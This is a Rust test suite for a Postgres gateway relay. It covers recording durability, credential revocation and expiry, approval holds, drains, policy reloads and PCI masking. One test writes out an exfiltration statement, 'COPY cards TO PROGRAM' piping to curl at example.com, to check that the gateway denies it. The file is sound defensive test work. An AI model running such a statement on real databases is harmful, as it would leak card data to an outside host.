//! The relay's lifecycle over in-memory streams: a scripted upstream on one end of a duplex,
//! the client on another, a real spool in a temporary folder, and a session core whose state
//! database is unreachable (so every path that needs it must fail closed). No Postgres.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use bytes::BytesMut;
use hoop_protocol::backend::{self, BackendMessage};
use hoop_protocol::frontend::{self, FrontendMessage};
use hoop_protocol::{Frame, decode_frame};
use tokio::io::{AsyncReadExt, AsyncWriteExt, DuplexStream};

use super::Ended;
use std::sync::Mutex;

use crate::approvals::{
    ApprovalError, ApprovalRecord, ApprovalState, HoldRequest, Resolution, Scope, Waiter,
};
use crate::audit::AuditEvent;
use crate::base::ApprovalId;
use crate::gateway::in_memory;
use crate::gateway::policy::{InForce, StatementPolicy};
use crate::identity::RunIdentity;
use crate::policy::classify::Classifier;
use crate::policy::rules::{Action, Approvals as RuleApprovals, PolicyConfig, RuleConfig, Rules};
use crate::recording::Durability;
use crate::session::ApprovalDesk;
use crate::session::{Core, Ending, Session};

/// A folder under the system temp dir, removed on drop.
struct TempDir(PathBuf);

impl TempDir {
    fn new() -> Self {
        let dir = std::env::temp_dir().join(format!("hoop-relay-{}", uuid::Uuid::new_v4()));
        std::fs::create_dir_all(&dir).unwrap();
        TempDir(dir)
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// A session core whose state database is a closed port: audits fail (and are logged), and
/// approvals cannot be requested.
fn core(spool_dir: &Path) -> Core {
    core_with(spool_dir, None)
}

/// The same core with `desk` taking approvals.
fn core_with(spool_dir: &Path, desk: Option<Arc<dyn ApprovalDesk>>) -> Core {
    in_memory::core(spool_dir, desk).unwrap()
}

/// The default pack, plus a rule that holds every UPDATE for approval.
fn statements() -> StatementPolicy {
    let hold_updates = RuleConfig {
        id: "hold-updates".into(),
        action: Action::Approve,
        kinds: vec!["update".into()],
        ..RuleConfig::default()
    };
    StatementPolicy::new(
        Arc::new(Classifier::new(1 << 20, 64)),
        InForce {
            version: crate::base::Sha256::of(b"relay tests"),
            rules: Arc::new(rules_with(hold_updates)),
        },
    )
}

/// The default pack and `rule`.
fn rules_with(rule: RuleConfig) -> Rules {
    Rules::compile(
        &PolicyConfig::default(),
        &[rule],
        RuleApprovals::Available,
        &[],
    )
    .unwrap()
}

async fn session(core: &Core, expires_in: chrono::TimeDelta) -> Session<'_> {
    session_with(core, expires_in, Durability::Statement).await
}

/// A session of a connection with `durability`.
async fn session_with(
    core: &Core,
    expires_in: chrono::TimeDelta,
    durability: Durability,
) -> Session<'_> {
    in_memory::session(core, expires_in, durability)
        .await
        .unwrap()
}

/// One side of the wire, read frame by frame.
struct Peer {
    io: DuplexStream,
    buf: BytesMut,
}

impl Peer {
    fn new(io: DuplexStream) -> Self {
        Peer {
            io,
            buf: BytesMut::new(),
        }
    }

    /// The next frame, or `None` once the other side has closed.
    async fn frame(&mut self) -> Option<Frame> {
        loop {
            if let Some(frame) = decode_frame(&mut self.buf, 1 << 20).unwrap() {
                return Some(frame);
            }
            if self.io.read_buf(&mut self.buf).await.unwrap() == 0 {
                return None;
            }
        }
    }

    async fn send(&mut self, bytes: BytesMut) {
        self.io.write_all(&bytes).await.unwrap();
    }

    /// The SQL of the next Query the upstream receives.
    async fn query(&mut self) -> Option<String> {
        let frame = self.frame().await?;
        match FrontendMessage::decode(&frame).unwrap() {
            FrontendMessage::Query { sql } => Some(sql),
            other => panic!("expected a Query, got {other:?}"),
        }
    }

    /// The next ErrorResponse's SQLSTATE and message the client receives (skipping other
    /// messages).
    async fn error(&mut self) -> Option<(String, String)> {
        while let Some(frame) = self.frame().await {
            if let BackendMessage::ErrorResponse(fields) = BackendMessage::decode(&frame).unwrap() {
                return Some((
                    fields.sqlstate().unwrap_or_default().to_owned(),
                    fields.message().unwrap_or_default().to_owned(),
                ));
            }
        }
        None
    }
}

fn query(sql: &str) -> BytesMut {
    let mut buf = BytesMut::new();
    frontend::encode_query(sql, &mut buf);
    buf
}

fn complete(tag: &str) -> BytesMut {
    let mut buf = BytesMut::new();
    backend::encode_command_complete(tag, &mut buf);
    backend::encode_ready_for_query(b'I', &mut buf);
    buf
}

/// Runs the relay for `session` while `drive` plays the client and the upstream.
async fn relay<'c, F>(
    session: &mut Session<'c>,
    statements: &StatementPolicy,
    drive: impl FnOnce(Peer, Peer) -> F,
) -> Ended
where
    F: Future<Output = ()>,
{
    let (mut client_end, client) = in_memory::streams();
    let (upstream_end, upstream) = in_memory::streams();
    let (ended, ()) = tokio::join!(
        in_memory::relay(session, statements, &mut client_end, upstream_end),
        drive(Peer::new(client), Peer::new(upstream))
    );
    ended
}

fn recording(path: &Path) -> Vec<serde_json::Value> {
    std::fs::read_to_string(path)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// Closes the session as the gateway does after the relay, and reads its recording back.
async fn closed(session: Session<'_>, ended: &Ended) -> Vec<serde_json::Value> {
    let path = session.recorder.path().to_owned();
    session.close(&ended.to_string()).await.unwrap();
    recording(&path)
}

fn kinds(lines: &[serde_json::Value]) -> Vec<String> {
    lines
        .iter()
        .map(|l| l["kind"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test]
async fn a_statement_reaches_the_upstream_only_after_its_event_is_on_disk() {
    let dir = TempDir::new();
    let core = core(&dir.0);
    let statements = statements();
    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
    let path = session.recorder.path().to_owned();
    let file = path.clone();
    let ended = relay(
        &mut session,
        &statements,
        |mut client, mut upstream| async move {
            client.send(query("SELECT 1")).await;
            assert_eq!(upstream.query().await.as_deref(), Some("SELECT 1"));
            // The upstream has the statement: its event is already in the file.
            let on_disk = std::fs::read_to_string(&path).unwrap();
            assert!(on_disk.contains("\"sql\":\"SELECT 1\""), "{on_disk}");
            upstream.send(complete("SELECT 1")).await;
            let frame = client.frame().await.unwrap();
            assert_eq!(frame.tag, b'C');
            let mut terminate = BytesMut::new();
            frontend::encode_terminate(&mut terminate);
            client.send(terminate).await;
            // The upstream hears the Terminate, then the gateway hangs up.
            assert_eq!(upstream.frame().await.map(|f| f.tag), Some(b'X'));
            assert!(upstream.frame().await.is_none());
        },
    )
    .await;
    assert!(matches!(ended, Ended::Terminated), "{ended}");
    assert_eq!(session.counts.statements, 1);
    let lines = closed(session, &ended).await;
    assert_eq!(
        kinds(&lines),
        [
            "session_start",
            "policy",
            "statement",
            "complete",
            "terminate",
            "session_end"
        ]
    );
    assert_eq!(
        lines[1]["version"],
        crate::base::Sha256::of(b"relay tests").to_hex(),
        "the recording names the rules that decide"
    );
    assert_eq!(lines[5]["reason"], "client terminated");
    crate::recording::verify(&file).unwrap();
}

/// How long a test waits to be sure a frame does not come.
const SILENCE: Duration = Duration::from_millis(300);

/// `statement` durability: while the journal cannot sync, the statement does not reach the
/// upstream; once it syncs, it does.
#[tokio::test]
async fn statement_durability_forwards_nothing_before_the_record_is_synced() {
    let dir = TempDir::new();
    let core = core(&dir.0);
    let statements = statements();
    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
    let gate = core.spool().gate_syncs_for_test().await;
    let ended = relay(
        &mut session,
        &statements,
        |mut client, mut upstream| async move {
            gate.close();
            client.send(query("SELECT 1")).await;
            let early = tokio::time::timeout(SILENCE, upstream.frame()).await;
            assert!(early.is_err(), "forwarded before its record was synced");
            gate.open();
            assert_eq!(upstream.query().await.as_deref(), Some("SELECT 1"));
            upstream.send(complete("SELECT 1")).await;
            assert_eq!(client.frame().await.unwrap().tag, b'C');
            assert_eq!(client.frame().await.unwrap().tag, b'Z');
            let mut terminate = BytesMut::new();
            frontend::encode_terminate(&mut terminate);
            client.send(terminate).await;
            assert_eq!(upstream.frame().await.map(|f| f.tag), Some(b'X'));
        },
    )
    .await;
    assert!(matches!(ended, Ended::Terminated), "{ended}");
}

/// `result` durability: while the journal cannot sync, the statement reaches the upstream (its
/// record is written) but nothing the upstream answers reaches the client; once the record is
/// synced, the result is released. Each statement of a session, not only the first.
#[tokio::test]
async fn result_durability_forwards_once_written_and_releases_once_synced() {
    let dir = TempDir::new();
    let core = core(&dir.0);
    let statements = statements();
    let mut session = session_with(&core, chrono::TimeDelta::hours(1), Durability::Result).await;
    let path = session.recorder.path().to_owned();
    let file = path.clone();
    let gate = core.spool().gate_syncs_for_test().await;
    let ended = relay(
        &mut session,
        &statements,
        |mut client, mut upstream| async move {
            for n in 0..3 {
                let sql = format!("SELECT {n}");
                gate.close();
                client.send(query(&sql)).await;
                assert_eq!(upstream.query().await.as_deref(), Some(sql.as_str()));
                let on_disk = std::fs::read_to_string(&path).unwrap();
                assert!(on_disk.contains(&format!("\"sql\":\"{sql}\"")), "{on_disk}");
                // A notice, the completion and ReadyForQuery: none of it before the sync.
                let mut answer = BytesMut::new();
                backend::encode_notice_response(
                    &hoop_protocol::backend::ErrorFields::new("NOTICE", "00000", "note"),
                    &mut answer,
                );
                answer.extend_from_slice(&complete("SELECT 1"));
                upstream.send(answer).await;
                let early = tokio::time::timeout(SILENCE, client.frame()).await;
                assert!(
                    early.is_err(),
                    "a result was released before its record was synced"
                );
                gate.open();
                assert_eq!(client.frame().await.unwrap().tag, b'N');
                assert_eq!(client.frame().await.unwrap().tag, b'C');
                assert_eq!(client.frame().await.unwrap().tag, b'Z');
            }
            let mut terminate = BytesMut::new();
            frontend::encode_terminate(&mut terminate);
            client.send(terminate).await;
            assert_eq!(upstream.frame().await.map(|f| f.tag), Some(b'X'));
        },
    )
    .await;
    assert!(matches!(ended, Ended::Terminated), "{ended}");
    let lines = closed(session, &ended).await;
    assert_eq!(
        lines[0]["durability"], "result",
        "the recording names its guarantee"
    );
    assert_eq!(
        kinds(&lines),
        [
            "session_start",
            "policy",
            "statement",
            "notice",
            "complete",
            "statement",
            "notice",
            "complete",
            "statement",
            "notice",
            "complete",
            "terminate",
            "session_end"
        ]
    );
    crate::recording::verify(&file).unwrap();
}

#[tokio::test]
async fn revocation_mid_statement_ends_the_session_and_the_upstream() {
    let dir = TempDir::new();
    let core = core(&dir.0);
    let statements = statements();
    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
    let id = session.credential().id;
    let registry = core.registry().clone();
    let ended = relay(
        &mut session,
        &statements,
        |mut client, mut upstream| async move {
            client.send(query("SELECT pg_sleep(600)")).await;
            // The statement runs upstream; nothing answers it.
            assert!(upstream.query().await.is_some());
            assert_eq!(registry.end_credential(id, Ending::Revoked), 1);
            let (sqlstate, message) = client.error().await.unwrap();
            assert_eq!(sqlstate, "57P01");
            assert!(message.contains("revoked"), "{message}");
            // The gateway hangs up on the upstream too: the statement does not outlive the session.
            assert!(upstream.frame().await.is_none());
        },
    )
    .await;
    assert!(matches!(ended, Ended::By(Ending::Revoked)), "{ended}");
    let lines = closed(session, &ended).await;
    assert_eq!(lines.last().unwrap()["reason"], "credential revoked");
}

#[tokio::test]
async fn an_expired_credential_ends_its_session() {
    let dir = TempDir::new();
    let core = core(&dir.0);
    let statements = statements();
    // Already past its expiry when the relay starts: no clock is waited on.
    let mut session = session(&core, chrono::TimeDelta::seconds(-1)).await;
    let ended = relay(
        &mut session,
        &statements,
        |mut client, mut upstream| async move {
            let (sqlstate, message) = client.error().await.unwrap();
            assert_eq!(sqlstate, "57P01");
            assert!(message.contains("expired"), "{message}");
            assert!(upstream.frame().await.is_none());
        },
    )
    .await;
    assert!(matches!(ended, Ended::By(Ending::Expired)), "{ended}");
}

#[tokio::test]
async fn a_denied_statement_never_reaches_the_upstream() {
    let dir = TempDir::new();
    let core = core(&dir.0);
    let statements = statements();
    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
    let denied = "COPY cards TO PROGRAM 'curl -d @- https://example.com'";
    let ended = relay(
        &mut session,
        &statements,
        |mut client, mut upstream| async move {
            client.send(query(denied)).await;
            // The upstream gets the gateway's refusal in its place, never the statement.
            let sent = upstream.query().await.unwrap();
            assert!(!sent.contains("curl"), "{sent}");
            assert!(sent.starts_with("DO "), "{sent}");
            drop(client);
            assert!(upstream.frame().await.is_none());
        },
    )
    .await;
    assert!(matches!(ended, Ended::ClientGone), "{ended}");
    assert_eq!(session.counts.denied, 1);
    let lines = closed(session, &ended).await;
    assert_eq!(lines[1]["kind"], "policy");
    assert_eq!(lines[2]["kind"], "statement");
    assert_eq!(lines[2]["decision"], "deny");
    assert_eq!(lines[2]["rule"], "default.no-copy-program");
}

#[tokio::test]
async fn a_hold_that_cannot_be_requested_is_refused_not_run() {
    let dir = TempDir::new();
    let core = core(&dir.0);
    let statements = statements();
    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
    let ended = relay(
        &mut session,
        &statements,
        |mut client, mut upstream| async move {
            client
                .send(query("UPDATE orders SET note = 'x' WHERE id = 1"))
                .await;
            // The approvals store is down: the hold ends at once, refused in the statement's place.
            let sent = upstream.query().await.unwrap();
            assert!(!sent.contains("UPDATE orders"), "{sent}");
            assert!(sent.contains("could not request one"), "{sent}");
            drop(client);
            assert!(upstream.frame().await.is_none());
        },
    )
    .await;
    assert!(matches!(ended, Ended::ClientGone), "{ended}");
    assert_eq!(session.counts.held, 1);
    let lines = closed(session, &ended).await;
    let kinds = kinds(&lines);
    assert_eq!(kinds[1], "policy");
    assert_eq!(kinds[2], "statement");
    assert_eq!(lines[2]["decision"], "approve");
    assert_eq!(kinds[3], "approval");
    assert_eq!(lines[3]["outcome"], "unavailable");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_statement_that_cannot_be_recorded_does_not_run_and_ends_the_session() {
    let dir = TempDir::new();
    let core = core(&dir.0);
    let statements = statements();
    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
    // Real ENOSPC from the kernel for this recording's writes.
    session
        .recorder
        .redirect_for_test(Path::new("/dev/full"))
        .await
        .unwrap();
    let ended = relay(
        &mut session,
        &statements,
        |mut client, mut upstream| async move {
            client.send(query("SELECT 1")).await;
            let (sqlstate, message) = client.error().await.unwrap();
            assert_eq!(sqlstate, "58030");
            assert!(message.contains("cannot record"), "{message}");
            // Nothing reached the upstream before it was hung up on.
            assert!(upstream.frame().await.is_none());
        },
    )
    .await;
    assert!(matches!(ended, Ended::RecordingFailed(_)), "{ended}");
    assert!(session.close(&ended.to_string()).await.is_err());
}

/// Approvals in memory: what a person decides is what the test calls.
#[derive(Default)]
struct Desk {
    approvals: Mutex<HashMap<ApprovalId, (ApprovalRecord, Arc<tokio::sync::Notify>)>>,
    /// Woken when an approval is requested.
    requested: tokio::sync::Notify,
}

impl Desk {
    fn only(&self) -> ApprovalRecord {
        let approvals = self.approvals.lock().unwrap();
        assert_eq!(approvals.len(), 1);
        approvals.values().next().unwrap().0.clone()
    }

    /// A person approves the pending approval for one execution.
    fn approve(&self, id: ApprovalId) {
        let mut approvals = self.approvals.lock().unwrap();
        let (record, wake) = approvals.get_mut(&id).unwrap();
        record.state = ApprovalState::Approved;
        record.scope = Some(Scope::Once);
        record.decided_by = Some("lead".into());
        wake.notify_one();
    }
}

#[async_trait::async_trait]
impl ApprovalDesk for Desk {
    async fn covering(
        &self,
        _: &str,
        _: &RunIdentity,
        _: &str,
        _: &str,
        _: &str,
    ) -> Result<Option<ApprovalRecord>, ApprovalError> {
        Ok(None)
    }

    async fn request(
        &self,
        hold: &HoldRequest<'_>,
    ) -> Result<(ApprovalRecord, Waiter), ApprovalError> {
        let now = chrono::Utc::now();
        let record = ApprovalRecord {
            id: ApprovalId::new_random(),
            credential_id: hold.credential_id.as_uuid(),
            session_id: hold.session_id.as_uuid(),
            replica: "test".into(),
            connection: hold.connection.into(),
            rule: hold.rule.into(),
            reason: hold.reason.into(),
            statement: hold.statement.into(),
            fingerprint: hold.fingerprint.into(),
            run: hold.run.clone(),
            state: ApprovalState::Pending,
            scope: None,
            requested_at: now,
            expires_at: now + chrono::TimeDelta::hours(1),
            decided_at: None,
            decided_by: None,
            comment: None,
        };
        let (waiter, wake) = Waiter::detached();
        self.approvals
            .lock()
            .unwrap()
            .insert(record.id, (record.clone(), wake));
        self.requested.notify_one();
        Ok((record, waiter))
    }

    async fn get(&self, id: ApprovalId) -> Result<ApprovalRecord, ApprovalError> {
        let approvals = self.approvals.lock().unwrap();
        approvals
            .get(&id)
            .map(|(r, _)| r.clone())
            .ok_or(ApprovalError::NotFound(id))
    }

    async fn close(
        &self,
        id: ApprovalId,
        resolution: &Resolution<'_>,
        _: &AuditEvent,
    ) -> Result<Option<ApprovalRecord>, ApprovalError> {
        let mut approvals = self.approvals.lock().unwrap();
        let (record, _) = approvals.get_mut(&id).ok_or(ApprovalError::NotFound(id))?;
        if record.state != ApprovalState::Pending {
            return Ok(None);
        }
        record.state = match resolution {
            Resolution::Expired => ApprovalState::Expired,
            Resolution::Withdrawn { .. } => ApprovalState::Withdrawn,
            _ => panic!("the session only expires or withdraws an approval"),
        };
        Ok(Some(record.clone()))
    }

    fn url_of(&self, id: ApprovalId) -> String {
        format!("https://hoop.test/v1/approvals/{id}")
    }

    fn command_for(&self, id: ApprovalId) -> String {
        format!("hoop approvals approve {id}")
    }

    fn notice_interval(&self) -> Duration {
        Duration::from_secs(3600)
    }

    fn timeout(&self) -> Duration {
        Duration::from_secs(3600)
    }
}

/// The approval's id in the NoticeResponse a held client receives.
async fn held_notice(client: &mut Peer) -> String {
    loop {
        let frame = client.frame().await.expect("a hold notice");
        if let BackendMessage::NoticeResponse(fields) = BackendMessage::decode(&frame).unwrap() {
            return fields.message().unwrap_or_default().to_owned();
        }
    }
}

#[tokio::test]
async fn a_held_statement_the_client_cancels_is_withdrawn_and_never_runs() {
    let dir = TempDir::new();
    let desk = Arc::new(Desk::default());
    let core = core_with(&dir.0, Some(desk.clone()));
    let statements = statements();
    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
    let cancel = session.registration().cancel.clone();
    let update = "UPDATE orders SET note = 'x' WHERE id = 1";
    let ended = relay(&mut session, &statements, |mut client, mut upstream| {
        let desk = desk.clone();
        async move {
            client.send(query(update)).await;
            let notice = held_notice(&mut client).await;
            let id = desk.only().id;
            assert!(notice.contains(&id.to_string()), "{notice}");
            // The client's CancelRequest reaches the session through its registration.
            cancel.notify_waiters();
            let sent = upstream.query().await.unwrap();
            assert!(!sent.contains("UPDATE orders"), "{sent}");
            assert!(sent.contains("withdrawn"), "{sent}");
            assert_eq!(desk.only().state, ApprovalState::Withdrawn);
            drop(client);
            assert!(upstream.frame().await.is_none());
        }
    })
    .await;
    assert!(matches!(ended, Ended::ClientGone), "{ended}");
    let lines = closed(session, &ended).await;
    assert_eq!(
        kinds(&lines)[1..5],
        ["policy", "statement", "approval_requested", "approval"]
    );
    assert_eq!(lines[4]["outcome"], "withdrawn");
}

#[tokio::test]
async fn an_approved_statement_runs_once_after_the_decision() {
    let dir = TempDir::new();
    let desk = Arc::new(Desk::default());
    let core = core_with(&dir.0, Some(desk.clone()));
    let statements = statements();
    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
    let update = "UPDATE orders SET note = 'x' WHERE id = 1";
    let ended = relay(&mut session, &statements, |mut client, mut upstream| {
        let desk = desk.clone();
        async move {
            client.send(query(update)).await;
            desk.requested.notified().await;
            desk.approve(desk.only().id);
            assert_eq!(upstream.query().await.as_deref(), Some(update));
            upstream.send(complete("UPDATE 1")).await;
            drop(client);
            assert!(upstream.frame().await.is_none());
        }
    })
    .await;
    assert!(matches!(ended, Ended::ClientGone), "{ended}");
    assert_eq!(session.counts.held, 1);
    let lines = closed(session, &ended).await;
    let approval = lines.iter().find(|l| l["kind"] == "approval").unwrap();
    assert_eq!(approval["outcome"], "approved");
    assert_eq!(approval["by"], "lead");
}

#[test]
fn bind_parameters_are_recorded_masked_capped_or_as_their_size() {
    use crate::recording::BindParam;
    let masker = crate::masking::Masker::pci_default();
    let pan = "4111111111111111";
    let long = "x".repeat(super::MAX_RECORDED_PARAM + 100);
    let params = [
        Some(bytes::Bytes::from(format!("card {pan}"))),
        None,
        Some(bytes::Bytes::from(long.clone())),
        // A binary value of an unknown type: its size only.
        Some(bytes::Bytes::from_static(&[0, 1, 2, 3])),
    ];
    let recorded = super::recorded_params(&masker, &[25, 25, 25, 0], &[0, 0, 0, 1], &params);
    let json = serde_json::to_string(&recorded).unwrap();
    assert!(!json.contains(pan), "{json}");
    assert!(matches!(&recorded[0], BindParam::Text(t) if t.as_str().starts_with("card 411111")));
    assert!(matches!(recorded[1], BindParam::Null));
    assert!(
        matches!(&recorded[2], BindParam::Text(t) if t.as_str().len() < long.len()),
        "{json}"
    );
    assert!(matches!(recorded[3], BindParam::Binary { binary_bytes: 4 }));
}

#[test]
fn only_the_messages_the_relay_inspects_are_decoded() {
    let frame = |bytes: BytesMut| {
        let mut bytes = bytes;
        decode_frame(&mut bytes, 1 << 20).unwrap().unwrap()
    };
    let q = frame(query("SELECT 1"));
    assert!(matches!(
        super::decode_client(&q),
        Ok(Some(FrontendMessage::Query { .. }))
    ));
    let mut flush = BytesMut::new();
    flush.extend_from_slice(&[b'H', 0, 0, 0, 4]);
    assert!(matches!(super::decode_client(&frame(flush)), Ok(None)));
    // A Query whose text is not terminated is a protocol violation, not a pass-through.
    let mut broken = BytesMut::new();
    broken.extend_from_slice(&[b'Q', 0, 0, 0, 6, b'x', b'y']);
    assert!(super::decode_client(&frame(broken)).is_err());
}

/// The WARNING a draining gateway sends its sessions.
async fn drain_warning(client: &mut Peer) -> String {
    loop {
        let frame = client.frame().await.expect("a drain warning");
        if let BackendMessage::NoticeResponse(fields) = BackendMessage::decode(&frame).unwrap()
            && fields.severity() == Some("WARNING")
        {
            return fields.message().unwrap_or_default().to_owned();
        }
    }
}

#[tokio::test]
async fn a_drain_withdraws_the_held_statement_tells_the_client_and_the_session_goes_on() {
    let dir = TempDir::new();
    let desk = Arc::new(Desk::default());
    let core = core_with(&dir.0, Some(desk.clone()));
    let statements = statements();
    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
    let registry = core.registry().clone();
    let update = "UPDATE orders SET note = 'x' WHERE id = 1";
    let ended = relay(&mut session, &statements, |mut client, mut upstream| {
        let desk = desk.clone();
        async move {
            client.send(query(update)).await;
            held_notice(&mut client).await;
            registry.drain(tokio::time::Instant::now() + Duration::from_secs(30));
            // The held statement never runs: the refusal takes its place upstream.
            let sent = upstream.query().await.unwrap();
            assert!(!sent.contains("UPDATE orders"), "{sent}");
            assert!(sent.contains("shutting down"), "{sent}");
            assert_eq!(desk.only().state, ApprovalState::Withdrawn);
            let warning = drain_warning(&mut client).await;
            assert!(warning.contains("shutting down"), "{warning}");
            assert!(warning.contains("at most"), "{warning}");
            // The session is usable until the drain ends.
            client.send(query("SELECT 1")).await;
            assert_eq!(upstream.query().await.as_deref(), Some("SELECT 1"));
            upstream.send(complete("SELECT 1")).await;
            drop(client);
            assert!(upstream.frame().await.is_none());
        }
    })
    .await;
    assert!(matches!(ended, Ended::ClientGone), "{ended}");
    let lines = closed(session, &ended).await;
    let approval = lines.iter().find(|l| l["kind"] == "approval").unwrap();
    assert_eq!(approval["outcome"], "withdrawn");
    assert_eq!(approval["error"], "the gateway is shutting down");
    assert_eq!(session_statements(&lines), [update, "SELECT 1"]);
}

#[tokio::test]
async fn a_session_that_starts_during_a_drain_is_told_at_once_and_holds_nothing() {
    let dir = TempDir::new();
    let desk = Arc::new(Desk::default());
    let core = core_with(&dir.0, Some(desk.clone()));
    let statements = statements();
    core.registry()
        .drain(tokio::time::Instant::now() + Duration::from_secs(30));
    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
    let update = "UPDATE orders SET note = 'x' WHERE id = 1";
    let ended = relay(
        &mut session,
        &statements,
        |mut client, mut upstream| async move {
            let warning = drain_warning(&mut client).await;
            assert!(warning.contains("shutting down"), "{warning}");
            client.send(query(update)).await;
            let sent = upstream.query().await.unwrap();
            assert!(!sent.contains("UPDATE orders"), "{sent}");
            assert!(sent.contains("withdrawn"), "{sent}");
            drop(client);
            assert!(upstream.frame().await.is_none());
        },
    )
    .await;
    assert!(matches!(ended, Ended::ClientGone), "{ended}");
}

#[tokio::test]
async fn a_reload_decides_the_next_statement_and_the_recording_names_each_version() {
    let dir = TempDir::new();
    let core = core(&dir.0);
    let statements = statements();
    let mut session = session(&core, chrono::TimeDelta::hours(1)).await;
    let deny_selects = RuleConfig {
        id: "no-selects".into(),
        action: Action::Deny,
        kinds: vec!["select".into()],
        ..RuleConfig::default()
    };
    let stricter = rules_with(deny_selects);
    let v2 = crate::base::Sha256::of(b"v2");
    let ended = relay(&mut session, &statements, |mut client, mut upstream| {
        let statements = &statements;
        async move {
            client.send(query("SELECT 1")).await;
            assert_eq!(upstream.query().await.as_deref(), Some("SELECT 1"));
            upstream.send(complete("SELECT 1")).await;
            client.frame().await.unwrap();
            statements.replace(InForce {
                version: v2,
                rules: Arc::new(stricter),
            });
            client.send(query("SELECT 2")).await;
            let sent = upstream.query().await.unwrap();
            assert!(
                !sent.contains("SELECT 2"),
                "the new rules refuse it: {sent}"
            );
            assert!(sent.contains("no-selects"), "{sent}");
            drop(client);
            assert!(upstream.frame().await.is_none());
        }
    })
    .await;
    assert!(matches!(ended, Ended::ClientGone), "{ended}");
    let lines = closed(session, &ended).await;
    let decided: Vec<(String, String)> = lines
        .iter()
        .filter(|l| l["kind"] == "policy" || l["kind"] == "statement")
        .map(|l| {
            let what = if l["kind"] == "policy" {
                &l["version"]
            } else {
                &l["decision"]
            };
            (
                l["kind"].as_str().unwrap().to_owned(),
                what.as_str().unwrap().to_owned(),
            )
        })
        .collect();
    let v1 = crate::base::Sha256::of(b"relay tests").to_hex();
    assert_eq!(
        decided,
        [
            ("policy".to_owned(), v1),
            ("statement".to_owned(), "allow".to_owned()),
            ("policy".to_owned(), v2.to_hex()),
            ("statement".to_owned(), "deny".to_owned()),
        ]
    );
}

/// The SQL of the recorded simple-protocol statements, in order.
fn session_statements(lines: &[serde_json::Value]) -> Vec<String> {
    lines
        .iter()
        .filter(|l| l["kind"] == "statement")
        .map(|l| l["sql"].as_str().unwrap().to_owned())
        .collect()
}
